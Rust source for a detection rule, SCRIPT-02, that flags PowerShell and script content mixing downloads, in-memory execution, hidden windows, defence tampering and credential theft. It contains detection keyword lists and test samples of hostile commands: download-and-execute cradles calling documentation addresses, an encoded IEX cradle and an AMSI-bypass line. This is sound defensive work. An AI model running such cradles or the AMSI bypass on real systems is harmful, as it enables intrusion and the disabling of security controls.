//! SCRIPT-02: script content that downloads, runs in memory, hides, tampers or steals.
//!
//! Sees: words of at least two different classes (download, execution of text or memory, hidden window, tampering with
//! defences, credential theft, an address in place of a name) in one command line, with all that is encoded in it, or in
//! one script block.
//! Why: a cradle that downloads and runs, or a script that blinds AMSI first, is how tools come into memory.
//! Benign causes: installers and package managers, modules of vendors (long, with few classes), security products.
//! Sources: MITRE ATT&CK T1059.001, T1105, T1620, T1685; published offensive PowerShell; the classes are judgement.

use std::collections::HashMap;

use ahash::RandomState;

use super::meta::{Key, Level, Meta, Threshold};
use super::script_blocks::{self, blocks};
use super::starts::{self, quote, urls};
use super::{Cx, Hit, KeyRows, Signal};
use crate::lake::frame::{Row, StrId};
use crate::rules::content::{self, Class, ClassSet};
use crate::rules::encoded::decode_layers;
use crate::schema::{process as t, script};

/// See the module.
pub struct Script02;

const CLASSES: f64 = 2.0;
const CLASSES_HIGH: f64 = 3.0;
const LONG_BLOCK: f64 = 16384.0;

static META: Meta = Meta {
    id: "SCRIPT-02",
    title: "Download, in-memory or evasion content",
    sees: "A command line (with everything encoded in it) or script block with words of two or more classes: download, \
           execution of text or memory, hidden window, tampering with defences, credentials, URL with an address.",
    why: "Cradles that download and run, and scripts that blind AMSI first, bring tools into memory.",
    techniques: &[
        "T1059.001",
        "T1105",
        "T1620",
        "T1685",
        "T1564.003",
        "T1003.001",
        "T1059.003",
    ],
    stage: "execution",
    family: "scripts",
    key: Key::Host,
    reads: script_blocks::WITH_STARTS,
    level: Level::Medium,
    decisive: false,
    thresholds: &[
        Threshold {
            name: "classes",
            value: CLASSES,
            unit: "classes",
            source: "[J] one class is everyday work",
        },
        Threshold {
            name: "classes_high",
            value: CLASSES_HIGH,
            unit: "classes",
            source: "[J] three are rarely innocent",
        },
        Threshold {
            name: "long_block_bytes",
            value: LONG_BLOCK,
            unit: "bytes",
            source: "[J] longer blocks are modules: two everyday classes say nothing there",
        },
    ],
    benign: &[
        "installers and package managers",
        "modules of vendors",
        "scripts of security products",
    ],
};

impl Signal for Script02 {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn scan(&self, cx: &Cx<'_>, rows: &KeyRows<'_>, hits: &mut Vec<Hit>) {
        let mut known: HashMap<(StrId, StrId), Option<Content>, RandomState> = HashMap::default();
        for row in starts::starts(rows.table(&t::TABLE)) {
            let Some(line) = row.text(t::CMDLINE) else {
                continue;
            };
            let key = (row.id(t::CMDLINE), row.id(t::IMAGE_NAME));
            let content = known.entry(key).or_insert_with(|| of_command_line(cx, row, line));
            if let Some(content) = content {
                hits.push(content.hit(row));
            }
        }
        for block in blocks(rows.table(&script::TABLE)) {
            if let Some(content) = of_script(cx, &block.text, block.row.str(script::PATH)) {
                let mut hit = content.hit(block.row);
                for part in block.rows.iter().skip(1) {
                    hit.add_row(*part);
                }
                hits.push(hit);
            }
        }
    }
}

/// What a text says.
struct Content {
    classes: ClassSet,
    text: String,
    /// Technique of the interpreter.
    own: &'static str,
}

/// Command lines of shells and script hosts, and those that call PowerShell.
fn of_command_line(cx: &Cx<'_>, row: Row<'_>, line: &str) -> Option<Content> {
    let powershell = starts::is_one_of(row, &["powershell", "powershell_ise", "pwsh"]) || names_powershell(line);
    if !powershell && !starts::is_one_of(row, &["cmd", "cscript", "mshta", "wmic", "wscript"]) {
        return None;
    }
    let (image, _) = starts::names(row);
    let mut text = line.to_owned();
    for layer in decode_layers(
        line,
        if powershell && !image.starts_with("cmd") {
            "powershell"
        } else {
            &image
        },
    ) {
        text.push('\n');
        text.push_str(&layer.text);
    }
    let classes = content::classes(&text);
    let own = if powershell {
        "T1059.001"
    } else {
        starts::technique_of(&image, line).unwrap_or("T1059.003")
    };
    (f64::from(classes.count()) >= cx.number(&META, "classes")).then_some(Content { classes, text, own })
}

fn names_powershell(line: &str) -> bool {
    let lower = line.to_ascii_lowercase();
    lower.contains("powershell") || lower.contains("pwsh")
}

fn of_script(cx: &Cx<'_>, text: &str, path: &str) -> Option<Content> {
    let mut all = text.to_owned();
    for layer in decode_layers(text, "") {
        all.push('\n');
        all.push_str(&layer.text);
    }
    let classes = content::classes(&all);
    let count = f64::from(classes.count());
    let enough = count >= CLASSES_HIGH || (count >= cx.number(&META, "classes") && !is_everyday(cx, text, &classes));
    if !enough || is_shipped_module(text, path) {
        return None;
    }
    Some(Content {
        classes,
        text: all,
        own: "T1059.001",
    })
}

/// Two classes say nothing in a long block, in a module, or where one of them is only `Add-Type`, unless
/// one of them is tampering or credentials.
fn is_everyday(cx: &Cx<'_>, text: &str, classes: &ClassSet) -> bool {
    if classes.contains(Class::Tamper) || classes.contains(Class::Credentials) {
        return false;
    }
    let execute: Vec<&str> = classes
        .tokens
        .iter()
        .filter(|(c, _)| *c == Class::Execute)
        .map(|(_, t)| t.as_str())
        .collect();
    let only_types = !execute.is_empty() && execute.iter().all(|t| *t == "add-type");
    only_types || text.len() > cx.number(&META, "long_block_bytes") as usize || is_module(text)
}

/// The marks of a module: a copyright or requirement at the top and functions with declared parameters.
fn is_module(text: &str) -> bool {
    let head = text
        .trim_start_matches(['\u{feff}', ' ', '\r', '\n'])
        .to_ascii_lowercase();
    let boilerplate = [
        "# copyright",
        "#requires",
        "<#",
        "# module manifest",
        "#\r\n# copyright",
        "#\n# copyright",
    ];
    let top = boilerplate.iter().any(|b| head.starts_with(b));
    top && (head.contains("[cmdletbinding") || head.contains("export-modulemember") || head.contains("set-strictmode"))
}

/// A script in a folder of modules that only administrators write to and that carries a signature, or PowerShell's own
/// modules, whose records give the path.
fn is_shipped_module(text: &str, path: &str) -> bool {
    let lower = path.to_ascii_lowercase();
    let shipped = [
        "\\windows\\system32\\windowspowershell\\v1.0\\modules\\",
        "\\windows\\syswow64\\windowspowershell\\v1.0\\modules\\",
        "\\windows\\diagnostics\\",
        "\\program files\\windowspowershell\\modules\\powershellget\\",
        "\\program files\\windowspowershell\\modules\\packagemanagement\\",
        "\\program files\\powershell\\",
        "\\programdata\\microsoft\\windows defender advanced threat protection\\",
        "\\program files\\windows defender advanced threat protection\\",
    ];
    let signed = text.contains("# SIG # Begin signature block");
    crate::rules::paths::is_protected(path) && (signed || shipped.iter().any(|p| lower.contains(p)))
        || shipped.iter().skip(6).any(|p| lower.contains(p))
}

impl Content {
    fn hit(&self, row: Row<'_>) -> Hit {
        let classes: Vec<Class> = Class::ALL.into_iter().filter(|c| self.classes.contains(*c)).collect();
        let words: Vec<&str> = self.classes.tokens.iter().map(|(_, t)| t.as_str()).take(8).collect();
        let named = classes.iter().map(|c| name(*c)).collect::<Vec<_>>().join(", ");
        let explain = format!(
            "script content with {named} ({}): {}",
            words.join(", "),
            quote(&self.text)
        );
        // The words, without addresses, which change from host to host.
        let mut stable: Vec<&str> = self
            .classes
            .tokens
            .iter()
            .filter(|(c, _)| *c != Class::RawIpUrl)
            .map(|(_, t)| t.as_str())
            .collect();
        stable.sort_unstable();
        stable.dedup();
        let high = f64::from(self.classes.count()) >= CLASSES_HIGH;
        let mut hit = Hit::at(&META, row, stable.join(","), explain)
            .level(if high { Level::High } else { META.level })
            .techniques(&self.techniques());
        hit.iocs = urls(&self.text);
        hit
    }

    fn techniques(&self) -> Vec<&'static str> {
        let mut out = vec![self.own];
        let has = |c| self.classes.contains(c);
        let word = |words: &[&str]| self.classes.tokens.iter().any(|(_, t)| words.contains(&t.as_str()));
        if has(Class::Download) {
            out.push("T1105");
        }
        if word(IN_MEMORY) {
            out.push("T1620");
        }
        if has(Class::Hide) {
            out.push("T1564.003");
        }
        if has(Class::Tamper) {
            out.push("T1685");
        }
        if word(&["minidump", "sekurlsa", "comsvcs", "invoke-mimikatz"]) {
            out.push("T1003.001");
        }
        out
    }
}

/// Words of loading code into memory, as against running text.
const IN_MEMORY: &[&str] = &[
    "virtualalloc",
    "createthread",
    "createremotethread",
    "getdelegateforfunctionpointer",
    "reflection.assembly]::load",
    "assembly]::load",
    "[appdomain]::currentdomain.load",
    "invoke-reflectivepeinjection",
];

fn name(class: Class) -> &'static str {
    match class {
        Class::Download => "a download",
        Class::Execute => "execution of text or memory",
        Class::Hide => "a hidden window",
        Class::Tamper => "tampering with defences",
        Class::Credentials => "credential theft",
        Class::RawIpUrl => "a URL with an address",
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::signals::starts::testing::hits_of;
    use crate::signals::testing::Sample;

    fn block(text: &str, path: &str) -> Vec<Hit> {
        let mut sample = Sample::default();
        sample.row(&script::TABLE, "ws01", "2026-03-02T09:00:00Z", |b| {
            b.text(script::TEXT, text);
            b.text(script::PATH, path);
        });
        sample.hits(&Script02)
    }

    #[test]
    fn two_classes_are_medium_and_three_high() {
        let cradle = block("IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')", "");
        assert_eq!((cradle.len(), cradle[0].level), (1, Level::High));
        assert_eq!(cradle[0].techniques, ["T1059.001", "T1105"]);
        let bypass = block(
            "[Ref].Assembly.GetType(\"x\").GetField(\"amsiInitFailed\").SetValue($null,$true); VirtualAlloc",
            "",
        );
        assert_eq!(bypass[0].level, Level::Medium);
        assert_eq!(bypass[0].techniques, ["T1059.001", "T1620", "T1685"]);
        let line = "powershell -w hidden -c \"iwr http://192.0.2.1/a.exe -o a.exe; iex .\\a.exe\"";
        let found = hits_of(&Script02, "powershell.exe", "cmd.exe", line);
        assert!(found[0].techniques.contains(&"T1564.003".into()));
    }

    #[test]
    fn encoded_content_counts() {
        use base64::Engine;
        let text: Vec<u8> = "IEX (iwr https://a.example/x)"
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect();
        let line = format!(
            "powershell -enc {}",
            base64::engine::general_purpose::STANDARD.encode(text)
        );
        assert_eq!(hits_of(&Script02, "powershell.exe", "cmd.exe", &line).len(), 1);
    }

    #[test]
    fn everyday_scripts_and_modules_are_quiet() {
        assert!(block("Get-Service | Where Status -eq Running", "").is_empty());
        assert!(block("Invoke-WebRequest https://packages.corp.example/agent.msi", "").is_empty());
        assert!(block("Import-Module ActiveDirectory", "").is_empty());
        let module = "# Copyright (c) A Vendor\nfunction Get-X { [CmdletBinding()] param() Add-Type -Path x; Invoke-WebRequest $u; iex $y }";
        assert!(block(module, "").is_empty());
        let long = format!(
            "function A {{}} {} iex $a; Invoke-WebRequest $u",
            "# text\n".repeat(4000)
        );
        assert!(block(&long, "").is_empty());
        assert!(hits_of(&Script02, "notepad.exe", "x.exe", "notepad iex -w hidden iwr").is_empty());
    }
}
